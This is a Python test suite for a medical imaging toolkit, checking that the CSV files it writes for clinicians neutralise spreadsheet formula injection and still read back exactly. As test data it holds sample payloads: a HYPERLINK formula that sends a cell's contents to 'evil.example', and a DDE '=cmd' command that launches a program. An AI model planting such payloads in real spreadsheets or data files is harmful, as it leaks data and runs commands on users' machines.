"""CSV injection (OWASP): the CSVs clinicians open in a spreadsheet carry no cell that runs as a
formula, numbers stay numbers, and medtl's own readers get the original text back."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from medtl.config import build_config
from medtl.spreadsheet import (
    FORMULA_PREFIXES,
    neutralise_cell,
    read_csv,
    restore_cell,
    write_csv,
)

# (cell as given, cell as written)
HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("+1+1", "'+1+1"),  # not a number: a formula
    ("-ve", "'-ve"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'quoted", "''quoted"),  # one more quote, so restoring is exact
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-inf", "'-inf"),  # a spreadsheet reads it as text
    ("-", "'-"),
]
SAFE = ["-1", "-0.5", "+3", "-1.5e-3", "", "plain", "nodule", "img/-x.dcm", "a=b"]
CLASSES = ["-ve", "=pos"]  # labels from input data that a spreadsheet would run


def _raw_cells(path: Path) -> list[list[str]]:
    """Every cell of a CSV as a spreadsheet gets it (no medtl restoring)."""
    with path.open(newline="") as fh:
        return list(csv.reader(fh))


def _runnable(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula: text starting with a formula prefix."""
    out = []
    for cell in (c for row in cells for c in row):
        if cell.startswith(FORMULA_PREFIXES):
            try:
                float(cell)
            except ValueError:
                out.append(cell)
    return out


# ----------------------------------------------------------------------------- the cell rule
@pytest.mark.parametrize(("given", "written"), HOSTILE)
def test_hostile_cells_get_one_quote_and_read_back_exactly(given, written):
    assert neutralise_cell(given) == written
    assert restore_cell(written) == given


@pytest.mark.parametrize("cell", SAFE)
def test_numbers_and_ordinary_text_are_left_as_they_are(cell):
    assert neutralise_cell(cell) == cell
    assert restore_cell(cell) == cell


def test_non_text_cells_are_never_touched():
    for value in (-1, -0.5, float("nan"), None, True):
        assert neutralise_cell(value) is value


# ----------------------------------------------------------------------------- the file pair
def _table() -> pd.DataFrame:
    text = [g for g, _ in HOSTILE] + SAFE
    n = len(text)
    return pd.DataFrame(
        {
            "image": text,
            "=col": ["@x"] * n,  # a column name from input data follows the same rule
            "prob_pos": np.linspace(-1.0, 1.0, n),
            "fold": np.arange(n) - 3,
            "approved": [False] * n,
        }
    )


def test_write_read_round_trip_is_exact(tmp_path):
    df = _table()
    path = write_csv(df, tmp_path / "t.csv")
    cells = _raw_cells(path)
    assert _runnable(cells) == []
    assert len(cells) == len(df) + 1  # the carriage return stayed inside its (quoted) cell
    assert cells[0] == ["image", "'=col", "prob_pos", "fold", "approved"]
    by_row = dict(zip((g for g, _ in HOSTILE), cells[1:], strict=False))
    assert by_row["-ve"][0] == "'-ve" and by_row["'quoted"][0] == "''quoted"
    # numeric columns are written as to_csv writes them: negative numbers with no quote
    assert [r[3] for r in cells[1:4]] == ["-3", "-2", "-1"]
    assert cells[1][2] == "-1.0" and cells[1][4] == "False"

    back = read_csv(path, dtype={"image": str, "=col": str}, keep_default_na=False)
    pd.testing.assert_frame_equal(back, df, check_dtype=False)
    assert back["prob_pos"].dtype == float and back["fold"].dtype == np.int64


def test_a_table_with_nothing_hostile_keeps_its_exact_bytes(tmp_path):
    df = pd.DataFrame({"image": ["a.dcm", "b.dcm"], "label": ["nodule", "-1"], "p": [-0.5, 1.0]})
    write_csv(df, tmp_path / "ours.csv")
    df.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def test_fold_assignments_and_quarantine_list(tmp_path):
    from medtl.cv import load_splits, save_splits
    from medtl.data import write_quarantine
    from medtl.preparation.quarantine import QuarantineEntry

    df = pd.DataFrame(
        {
            "image": ["=evil.dcm", "-scan.dcm", "ok.dcm"],
            "patient_id": ["=cmd|' /C calc'!A0", "-1", "@P2"],
            "label": ["-ve", "=pos", "-ve"],
            "fold": [0, 1, -1],
            "split": ["train", "train", "test"],
        }
    )
    path = save_splits(df, tmp_path)
    assert _runnable(_raw_cells(path)) == []
    pd.testing.assert_frame_equal(load_splits(path), df, check_dtype=False)

    q = write_quarantine([QuarantineEntry("=evil.dcm", "+truncated")], tmp_path / "q.csv")
    assert _raw_cells(q) == [["path", "reason"], ["'=evil.dcm", "'+truncated"]]
    assert read_csv(q).to_dict("records") == [{"path": "=evil.dcm", "reason": "+truncated"}]


# ----------------------------------------------------------------------------- real readers
def _hostile_oof(n_patients: int = 30, seed: int = 0) -> pd.DataFrame:
    """3-fold out-of-fold table whose images, patients, labels and sites start with = + - @."""
    rng = np.random.default_rng(seed)
    rows = []
    for i in range(n_patients):
        label = CLASSES[int(i % 3 == 0)]
        for j in range(2):
            rows.append(
                {
                    "image": f"{'=-+@'[i % 4]}img{i}_{j}.dcm",
                    "patient_id": f"=P{i:03d}" if i % 2 else f"-{i}",  # "-4" is a number
                    "label": label,
                    "fold": i % 3,
                    "site": ["@north", "-south"][i % 2],
                }
            )
    df = pd.DataFrame(rows)
    p = 1 / (1 + np.exp(-(2.0 * (df["label"] == CLASSES[1]) - 1 + rng.normal(size=len(df)))))
    return df.assign(**{f"prob_{CLASSES[0]}": 1 - p, f"prob_{CLASSES[1]}": p})


def test_report_regeneration_and_compare_read_the_original_labels(tmp_path):
    from medtl.evaluation.compare import compare_sources
    from medtl.evaluation.report import regenerate_report, write_report

    cfg = build_config(
        {
            "name": "csv_injection",
            "data": {"task": "binary", "classes": CLASSES},
            "cv": {"folds": 3},
            "evaluation": {"bootstrap": 50, "subgroups": ["site"]},
        }
    )
    oof, run = _hostile_oof(), tmp_path / "run"
    thresholds = {0: 0.5, 1: 0.5, 2: 0.5}
    info = {"classes": CLASSES, "task": "binary", "final_threshold": 0.5}
    info["fold_thresholds"] = {str(k): v for k, v in thresholds.items()}
    paths = write_report(
        run,
        oof=oof,
        classes=CLASSES,
        task="binary",
        fold_thresholds=thresholds,
        cfg=cfg,
        run_info=info,
    )
    (run / "config.yaml").write_text(cfg.to_yaml())
    (run / "run_info.json").write_text(json.dumps(info))

    cells = _raw_cells(paths.predictions)
    assert _runnable(cells) == [] and len(cells) == len(oof) + 1
    header = cells[0]
    raw = dict(zip(header, cells[1], strict=True))
    assert raw["label"] == "'=pos" and raw["patient_id"] == "-0" and raw["image"] == "'=img0_0.dcm"

    before = json.loads(paths.metrics.read_text())
    assert set(before["subgroups"]["site"]) == {"@north", "-south"}
    paths.metrics.unlink()
    again = regenerate_report(run)
    assert json.loads(again.metrics.read_text()) == before  # labels and sites read back as given
    assert read_csv(again.predictions, dtype=str)["label"].tolist() == oof["label"].tolist()

    # compare refuses labels outside the classes, so "'-ve" read raw would fail here
    r = compare_sources(str(run), str(run), out=tmp_path / "cmp", n_boot=20)
    assert r.n_images == len(oof) and r.n_positive == int((oof["label"] == "=pos").sum())
    assert r.auroc.diff == 0.0


@pytest.fixture
def hostile_folder(demo_data, tmp_path):
    """A folder of two real demo radiographs named as formulas, and a truncated copy."""
    images = pd.read_csv(demo_data.manifest_csv)["image"]
    folder = tmp_path / "in"
    folder.mkdir()
    for name, rel in (("=evil.dcm", images[1]), ("-scan.dcm", images[2])):
        shutil.copy(demo_data.manifest_csv.parent / rel, folder / name)
    (folder / "@broken.dcm").write_bytes((folder / "=evil.dcm").read_bytes()[:400])
    return folder


def test_scan_side_tables_are_quoted_and_its_manifest_is_not(hostile_folder, tmp_path):
    import pydicom

    from medtl.manifest import read_manifest, scan_dicom_dir

    accession = str(pydicom.dcmread(hostile_folder / "=evil.dcm").AccessionNumber)
    labels = tmp_path / "labels.csv"
    pd.DataFrame({"AccessionNumber": [accession], "label": ["-ve"]}).to_csv(labels, index=False)
    out = hostile_folder / "manifest.csv"
    res = scan_dicom_dir(hostile_folder, labels, out=out, progress=False)
    assert [r[0] for r in _raw_cells(res.unlabeled_csv)] == ["path", "'-scan.dcm"]
    assert [r[0] for r in _raw_cells(res.unreadable_csv)] == ["path", "'@broken.dcm"]
    assert read_csv(res.unreadable_csv)["path"].tolist() == ["@broken.dcm"]
    # the manifest is the user's input to later jobs: written and read back as it is
    assert _raw_cells(out)[1][:2] == ["=evil.dcm", "-ve"]
    assert read_manifest(out).df["label"].tolist() == ["-ve"]


def test_medtl_predict_writes_no_runnable_cell(hostile_folder, tmp_path):
    import torch

    from medtl.bundle import save_bundle
    from medtl.cli import main
    from medtl.models import create_model

    cfg = build_config({}, ["transforms.spatial_size=[32,32]", "model.weights=null"])
    torch.manual_seed(0)
    model = create_model(cfg.model, 2, pretrained=False).eval()
    bundle = save_bundle(tmp_path / "model", model, cfg, CLASSES, "binary", 0.0)  # all "=pos"
    out = tmp_path / "preds.csv"
    args = ["predict", "--model", str(bundle), str(hostile_folder), "--out", str(out)]
    res = CliRunner().invoke(main, [*args, "--device", "cpu", "--allow-unapproved"])
    assert res.exit_code == 0, res.output

    cells = _raw_cells(out)
    assert _runnable(cells) == [] and len(cells) == 4
    raw = [dict(zip(cells[0], row, strict=True)) for row in cells[1:]]
    assert [r["image"] for r in raw] == ["'-scan.dcm", "'=evil.dcm", "'@broken.dcm"]
    assert [r["pred"] for r in raw[:2]] == ["'=pos", "'=pos"]

    back = read_csv(out)
    assert back["image"].tolist() == ["-scan.dcm", "=evil.dcm", "@broken.dcm"]
    assert back["pred"].tolist()[:2] == ["=pos", "=pos"]
    assert back["error"].isna().tolist() == [True, True, False]
    assert back[f"prob_{CLASSES[1]}"].dtype == float  # numbers stay numbers
